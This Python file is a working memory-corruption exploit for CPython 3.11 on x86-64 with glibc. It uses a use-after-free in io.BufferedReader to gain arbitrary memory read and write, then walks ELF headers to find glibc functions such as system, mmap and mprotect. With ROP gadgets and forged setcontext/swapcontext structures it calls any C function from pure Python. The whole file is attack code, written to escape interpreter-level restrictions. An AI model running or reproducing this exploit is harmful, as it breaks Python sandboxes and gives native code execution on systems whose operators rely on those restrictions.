# Native code from Python alone. A known use-after-free in CPython (a buffer that a reader hands out and then frees) becomes a window onto all
# memory, and then a way to call any C library function. Code after this file attacks like a compiled program; only the kernel's restrictions
# can hold it. For x86-64, CPython 3.11 and glibc.
import io, re, struct


class Holder(io.RawIOBase):
    def readinto(self, buffer):
        global window
        window = buffer

    def readable(self):
        return True


reader = io.BufferedReader(Holder(), 448)
try:
    reader.read(1)
except TypeError:
    pass
del reader
window = window.cast("P")
# Reuses the freed memory: the window now shows this list's references.
slots = [None] * len(window)


def object_at(address):
    window[0] = address
    found = slots[0]
    window[0] = id(None)
    return found


# A bytearray that starts at address 0 and spans all memory. The text that holds it must stay alive.
anatomy = struct.pack("<7Q", 1 << 40, id(bytearray), (1 << 63) - 1, 1 << 62, 0, 0, 0)
memory = object_at(id(anatomy) + 32)


def number_at(address, form="<Q"):
    return struct.unpack(form, memory[address:address + struct.calcsize(form)])[0]


def text_at(address):
    return bytes(memory[address:memory.find(0, address, address + 200)])


class Image:
    """A program or library in memory, located by any address inside it."""

    def __init__(self, inside):
        self.base = inside & ~4095
        while bytes(memory[self.base:self.base + 4]) != b"\x7fELF":
            self.base -= 4096
        bias = 0 if number_at(self.base + 16, "<H") == 2 else self.base
        self.dynamic, self.code = {}, []
        for index in range(number_at(self.base + 56, "<H")):
            header = self.base + number_at(self.base + 32) + index * 56
            kind, flags, _, address, _, _, size = struct.unpack("<2I5Q", memory[header:header + 48])
            if kind == 1 and flags & 1:
                self.code.append((bias + address, size))
            if kind == 2:
                for entry in range(bias + address, bias + address + size, 16):
                    tag, value = number_at(entry), number_at(entry + 8)
                    self.dynamic[tag] = value + self.base if tag in (5, 6, 7, 23) and value < self.base and bias else value
        self.bias = bias

    def name(self, symbol):
        return text_at(self.dynamic[5] + number_at(self.dynamic[6] + 24 * symbol, "<I"))

    def imported(self, name):
        for table, size in ((23, 2), (7, 8)):
            for entry in range(self.dynamic.get(table, 0), self.dynamic.get(table, 0) + self.dynamic.get(size, 0), 24):
                if number_at(entry + 8) >> 32 and self.name(number_at(entry + 8) >> 32) == name:
                    return number_at(self.bias + number_at(entry))

    def exported(self, *names):
        found = {}
        for symbol in range((self.dynamic[5] - self.dynamic[6]) // 24):
            place = number_at(self.dynamic[6] + 24 * symbol + 8)
            if place and self.name(symbol) in names:
                found.setdefault(self.name(symbol).decode(), self.bias + place)
        return found

    def find(self, code):
        places = (memory.find(code, address, address + size) for address, size in self.code)
        return next((place for place in places if place >= 0), None)


python = Image(number_at(number_at(id(len) + 16) + 8))
library = Image(python.imported(b"malloc"))
functions = library.exported(
    b"setcontext", b"swapcontext", b"syscall", b"open", b"read", b"system", b"fork", b"mmap", b"mprotect", b"kill", b"memfd_create")

def first_of(*codes):
    return next(filter(None, (image.find(code) for code in codes for image in (library, python))))


# Gadgets: one loads a register from the stack, one stores a return value at the address in a register.
pop_argument = first_of(b"\x5f\xc3")
pop_place, keep_result = next(
    (first_of(bytes([0x58 + register, 0xC3])), first_of(bytes([0x48, 0x89, register, 0xC3])))
    for register in (2, 7, 6, 1) if any(image.find(bytes([0x48, 0x89, register, 0xC3])) for image in (library, python)))

arena = bytearray(1 << 18)
room = number_at(id(arena) + 40) + 4095 & ~4095
saved, wanted, definition, fake, result = room, room + 4096, room + 8192, room + 12288, room + 16384
stack, strings = room + (1 << 17) + 8, room + (1 << 17) + 4096
method = re.compile("x").match
# Raises its argument: Python must get back an object or an error.
raises = number_at(number_at(id(io._io._IOBase.seek) + 40) + 8)


def write(address, data):
    memory[address:address + len(data)] = data


def call(function, *arguments):
    """Calls a C library function, by name or address, with up to six numbers or bytes. Returns its return value."""
    numbers, free = [], strings
    for argument in arguments:
        if isinstance(argument, bytes):
            write(free, argument + b"\0")
            argument, free = free, free + len(argument) + 16 & ~7
        numbers.append(argument & (1 << 64) - 1)
    numbers += [0] * (6 - len(numbers))
    # The registers to load, in the order of ucontext_t, with default floating-point state.
    write(wanted, bytes(1024))
    for place, number in zip((104, 112, 136, 152, 40, 48), numbers):
        write(wanted + place, struct.pack("<Q", number))
    write(wanted + 160, struct.pack("<2Q", stack, functions.get(function, function)))
    write(wanted + 224, struct.pack("<Q", wanted + 424))
    write(wanted + 424, struct.pack("<7I", 0x37F, 0, 0xFFFF, 0, 0, 0, 0x1F80))
    # Afterwards: store the return value, raise, and return to the starting point.
    write(stack, struct.pack("<7Q", pop_place, result, keep_result, raises, pop_argument, saved, functions["setcontext"]))
    # A method whose C function takes two of our numbers: where to save the current registers, and which to continue with.
    form = number_at(id(method) + 16)
    write(definition, struct.pack("<4Q", number_at(form), functions["swapcontext"], number_at(form + 16), 0))
    write(fake, struct.pack("<Q", 1 << 40) + bytes(memory[id(method) + 8:id(method) + 64]))
    write(fake + 16, struct.pack("<2Q", definition, saved))
    write(fake + 56, struct.pack("<Q", wanted))
    try:
        object_at(fake)()
    except OSError:
        pass
    return number_at(result, "<q")


